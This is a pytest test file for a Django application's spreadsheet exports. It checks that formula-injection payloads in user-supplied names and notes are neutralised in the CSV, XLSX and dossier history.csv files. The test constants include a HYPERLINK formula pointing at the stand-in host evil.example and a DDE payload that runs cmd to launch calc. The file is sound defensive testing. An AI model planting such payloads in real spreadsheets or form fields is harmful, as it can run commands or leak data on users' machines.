"""No user text reaches a spreadsheet as a formula: the staff CSV and XLSX, the dossier's history.csv."""

import csv
import io
import pathlib
import re
import zipfile

import pytest
from django.apps import apps
from django.conf import settings
from django.urls import reverse
from import_export.resources import Resource
from openpyxl import load_workbook

from applications import services
from applications.models import Event
from fachkraefte import records
from fachkraefte.spreadsheets import FORMULA_LEADS, SafeCellsResourceMixin, csv_writer, safe_cell
from tests.factories import PartnerMunicipalityFactory, PartnershipFactory, UserFactory

EXPORT = "admin:applications_expressionofinterest_export"
HYPERLINK = '=HYPERLINK("http://evil.example/?x","X")'
PLUS = "+1+1"
MINUS = "-2+3"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"


# --- the rule -----------------------------------------------------------------------------------


@pytest.mark.parametrize("value", [HYPERLINK, PLUS, MINUS, AT, TAB, CR, "\n=1+1", "\0=1+1", "=", "-"])
def test_a_cell_that_would_start_a_formula_becomes_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Berlin", "", "a=b", "Kumasi - Ashanti", "'=already text", "1+1", "é=1"])
def test_harmless_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [0, 42, -5, -2.5, None, True])
def test_numbers_and_other_values_are_unchanged(value):
    assert safe_cell(value) is value


def test_the_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow([HYPERLINK, "Berlin", -3])
    writer.writerows([[PLUS, MINUS], [AT, TAB, CR]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'" + HYPERLINK, "Berlin", "-3"], ["'" + PLUS, "'" + MINUS], ["'" + AT, "'" + TAB, "'" + CR]]


# --- the staff spreadsheet export ---------------------------------------------------------------


@pytest.fixture
def evil_eois(eoi, german_contact, german_municipality, partnership, partner_municipality):
    """Two EOIs whose partnership and municipality names are formulae."""
    german_municipality.name = MINUS
    german_municipality.save()
    partnership.name = HYPERLINK
    partnership.save()
    partner_municipality.name = AT
    partner_municipality.save()
    other = PartnershipFactory(
        name=PLUS, german=german_municipality, partner=PartnerMunicipalityFactory(name=TAB, country="NA")
    )
    second = services.start(other, list(other.municipalities.all()), "integrated", by=german_contact)
    return [eoi, second]


def assert_no_formula_leads(cells):
    assert all(not cell.startswith(FORMULA_LEADS) for cell in cells if isinstance(cell, str))


def test_the_csv_export_holds_no_formula(client, staff, evil_eois):
    client.force_login(staff)
    response = client.get(reverse(EXPORT, args=["csv"]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert_no_formula_leads(cells)
    for payload in (HYPERLINK, PLUS, MINUS, AT, TAB):
        assert "'" + payload in cells
        assert payload not in cells
    assert sorted(row[0] for row in rows[1:]) == sorted(str(eoi.pk) for eoi in evil_eois)


def test_the_xlsx_export_holds_no_formula_and_keeps_numbers(client, staff, evil_eois):
    client.force_login(staff)
    response = client.get(reverse(EXPORT, args=["xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = [cell.value for cell in cells]
    assert_no_formula_leads(values)
    for payload in (HYPERLINK, PLUS, MINUS, AT, TAB):
        assert "'" + payload in values
        assert payload not in values
    ids = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert sorted(cell.value for cell in ids) == sorted(eoi.pk for eoi in evil_eois)
    assert all(cell.data_type == "n" for cell in ids)  # numbers stay numbers


# --- the dossier's history.csv ------------------------------------------------------------------


def test_the_dossiers_history_holds_no_formula(client, staff, eoi, media, django_capture_on_commit_callbacks):
    records.record(eoi, Event.Kind.STATUS_CHANGED, by=UserFactory(name=HYPERLINK), note=CR)
    records.record(eoi, Event.Kind.MEETING, by=UserFactory(name=AT), note=MINUS)
    records.record(eoi, Event.Kind.PDF_REQUESTED, by=UserFactory(name=PLUS), note=TAB)
    client.force_login(staff)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("admin:applications_expressionofinterest_changelist"),
            {"action": "export_dossier", "_selected_action": [eoi.pk]},
        )
    assert response.status_code == 302
    event = Event.objects.get(eoi=eoi, kind=Event.Kind.EXPORTED)
    download = client.get(reverse("admin:applications_expressionofinterest_dossier", args=[event.pk]))
    assert download.status_code == 200
    with zipfile.ZipFile(io.BytesIO(b"".join(download.streaming_content))) as archive:
        history = archive.read("history.csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(history)) for cell in row]
    assert_no_formula_leads(cells)
    for payload in (HYPERLINK, PLUS, MINUS, AT, TAB, CR):
        assert "'" + payload in cells
        assert payload not in cells


# --- guards: every writer goes through the one rule ---------------------------------------------

WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(|\.export_data\(|xlsxwriter")
SPREADSHEETS = pathlib.Path(settings.BASE_DIR) / "fachkraefte" / "spreadsheets.py"


def project_sources():
    for app in ("applications", "partnerships", "placements", "fachkraefte"):
        yield from (pathlib.Path(settings.BASE_DIR) / app).rglob("*.py")


def test_no_spreadsheet_writer_bypasses_the_rule():
    allowed = {SPREADSHEETS, pathlib.Path(settings.BASE_DIR) / "applications" / "exports.py"}
    bypassing = [str(path) for path in project_sources() if path not in allowed and WRITERS.search(path.read_text())]
    assert bypassing == []


def test_every_import_export_resource_neutralises_its_cells():
    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    ours = {config.name for config in apps.get_app_configs() if config.path.startswith(str(settings.BASE_DIR))}
    resources = [cls for cls in subclasses(Resource) if cls.__module__.split(".")[0] in ours]
    assert resources, "the EOI resource should be found"
    assert all(issubclass(cls, SafeCellsResourceMixin) for cls in resources)
